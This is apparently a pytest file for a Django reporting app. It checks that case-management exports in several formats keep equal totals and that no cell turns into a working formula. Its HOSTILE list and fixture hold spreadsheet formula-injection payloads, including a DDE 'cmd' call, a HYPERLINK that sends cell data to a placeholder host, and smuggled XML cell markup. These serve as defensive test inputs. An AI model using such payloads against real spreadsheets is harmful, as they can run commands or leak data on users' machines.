"""Each file by readers of other makers: equal totals, and nothing that computes."""

from collections import Counter
from datetime import date
from decimal import Decimal

import pytest
from django.db.models import Count, Max, Min, Sum

from cases.models import Area, Case, Leefdomein
from cases.tests.factories import (
    AreaFactory,
    CaseFactory,
    HouseholdFactory,
    OrganisationFactory,
    UserFactory,
)
from helmond_aanpak.tests.callers import client_of
from mdo.models import Agreement, Doorbraak, Escalation
from mdo.tests.factories import (
    AgreementFactory,
    DoorbraakFactory,
    EscalationFactory,
)
from reporting.exports import lists, reports, writers
from reporting.report_rows import rows_in
from reporting.tests.readers import (
    READERS,
    SOFFICE,
    by_libreoffice,
    headings,
    totals,
)
from reporting.tests.test_exports import made

pytestmark = pytest.mark.django_db

# The end of a cell, another one with a formula, and the beginning of a third: as the
# markup of a workbook.
ANOTHER_CELL = (
    '<r><t>x</t></r></is></c><c r="ZZ9"><f>1+1</f><v>2</v></c>'
    '<c r="AAA9" t="inlineStr"><is><r><t>y</t></r>'
)
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://voorbeeld.example/"&A1,"klik")',
    "\t=1+1",
    "\r=1+1",
    '"=1+1"; =2\t=3\r\n=4\r=5\n=6',
    ANOTHER_CELL,
    "_x003D_1+1",
    "{=1+1} ]]> &amp; <b>",
    "x\x01\x02\x0b\x1f\x7f\ufffe\ufeff=1+1",
    "😀 \u202eשלום\u202c \u2028 \u0085",
    "007",
    "1e5",
    "2026-01-01",
    "x" * 40_000,
    "😀" * 17_000,
)


@pytest.fixture
def hostile():
    """A city in which every text attacks; its coordinator."""
    area = AreaFactory(name="=1+1 wijk;@x")
    domain = Leefdomein.objects.create(name="=SUM(A1)", group="meedoen", position=99)
    party = OrganisationFactory(name='=cmd|"x"!A1')
    owner = UserFactory(name="+SUM(1)", organisation=party)
    for number, text in enumerate(HOSTILE):
        case = CaseFactory(household=HouseholdFactory(area=area), voordeur=text[:50])
        days = {"agreed_on": date(1900, 2, 27 + number % 3 // 2), "owner": owner}
        AgreementFactory(mdo__case=case, text=text, leefdomein=domain, **days)
        DoorbraakFactory(
            case=case,
            asked_on=date(1900, 2, 28) if number else date(2024, 2, 29),
            alleged_rule=text,
            rule_owner=party,
            fund=text[:100],
            amount_asked=Decimal("9999999999.99") - number,
        )
        escalation = EscalationFactory(case=case)
        escalation.phases.update(criterion=text)
    return UserFactory(coordinator=True, areas=[area], name="=Coördinator")


def files_of(by, report, folder):
    """Make a file of each kind; return them, and what its columns are."""
    found = {}
    for format in writers.WRITERS:
        path = folder / f"{report}.{format}"
        path.write_bytes(made(by, report, format, purpose="=1+1"))
        found[format] = path
    return found, headings(found["json"].read_bytes())


def of_the_database(report):
    """Return the totals that need no export to be known."""
    if report == "doorbraken":
        rows = Doorbraak.objects.aggregate(
            rows=Count("pk"), amountAsked=Sum("amount_asked"), askedOn=Min("asked_on")
        )
    elif report == "agreements":
        rows = Agreement.objects.aggregate(
            rows=Count("pk"), dueOn=Max("due_on"), agreedOn=Min("agreed_on")
        )
    elif report == "cases":
        rows = Case.objects.aggregate(rows=Count("pk"), openedOn=Min("opened_on"))
    else:
        rows = Escalation.objects.aggregate(
            rows=Count("pk"), phase=Sum("phase__number"), reviewOn=Max("review_on")
        )
    return rows


def agrees(total, known):
    """Tell whether a total of a column is what the database says of it."""
    if isinstance(total, int):
        return total == known
    number, *rest = total
    return known in rest or [str(known)] in rest


@pytest.mark.parametrize("report", lists.LISTS)
def test_readers_see_what_the_database_has_in_every_list(hostile, report, tmp_path):
    files, columns = files_of(hostile, report, tmp_path)
    seen = {
        read.__name__: totals(columns, read(files[format]))
        for format, readers in READERS.items()
        for read in readers
    }

    expected = seen["by_json"]
    assert {name: each for name, each in seen.items() if each != expected} == {}
    for name, known in of_the_database(report).items():
        assert agrees(expected[name], known), (name, known, expected[name])


def test_a_text_is_the_same_in_every_kind_of_workbook(hostile, tmp_path):
    files, columns = files_of(hostile, "doorbraken", tmp_path)
    place = [column["name"] for column in columns].index("allegedRule")

    for format in ("xlsx", "ods", "json", "parquet"):
        texts = [row[place] for row in READERS[format][0](files[format])]
        same = ("+1", "-1", ANOTHER_CELL, "007", "1e5", "2026-01-01")
        assert set(same) <= set(texts), format
    for format in ("xlsx", "ods"):
        longest = [row[place] for row in READERS[format][0](files[format])][-1]
        # What a cell can hold, as Excel counts.
        assert len(longest.encode("utf-16-le")) <= 2 * 32_767
        assert longest.endswith("😀…")


@pytest.mark.slow
@pytest.mark.usefixtures("sample", "_on_the_day")
class TestReports:
    @pytest.mark.parametrize("report", reports.VIEWS)
    def test_readers_see_in_every_report_what_the_api_tells(self, report, tmp_path):
        manager = UserFactory(manager=True)
        files, columns = files_of(manager, reports.NAME_OF_FILE[report], tmp_path)
        seen = {
            read.__name__: totals(columns, read(files[format]))
            for format, readers in READERS.items()
            for read in readers
        }

        expected = seen["by_json"]
        assert {name: each for name, each in seen.items() if each != expected} == {}
        told = told_by_the_api(manager, report)
        assert told
        for name, total in told.items():
            assert expected[name][1] == total, name


def told_by_the_api(manager, report):
    """Return the sum of each figure over all rows of a report, of those not hidden."""
    answer = client_of(manager).get(f"/api/v1/reports/{report}").json()
    found = Counter()
    for table in answer["tables"]:
        for _part, _name, row in rows_in(table):
            for name, value in row.items():
                if isinstance(value, int):
                    found[name] += value
    return found


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not on this machine")
class TestLibreOffice:
    def test_lists_have_the_same_totals_and_no_formula(self, hostile, tmp_path):
        self._compare(hostile, lists.LISTS, tmp_path)

    @pytest.mark.usefixtures("sample", "_on_the_day")
    def test_reports_have_the_same_totals_and_no_formula(self, tmp_path):
        everywhere = UserFactory(coordinator=True, areas=Area.objects.all())
        self._compare(everywhere, reports.REPORT_OF, tmp_path)

    def _compare(self, by, names, tmp_path):
        made = {name: files_of(by, name, tmp_path) for name in names}
        paths = [
            files[format]
            for files, _columns in made.values()
            for format in ("csv", "xlsx", "ods")
        ]

        for path, rows in by_libreoffice(paths, tmp_path / "seen"):
            files, columns = made[path.stem]
            expected = totals(columns, READERS["json"][0](files["json"]))
            assert totals(columns, rows) == expected, path.name
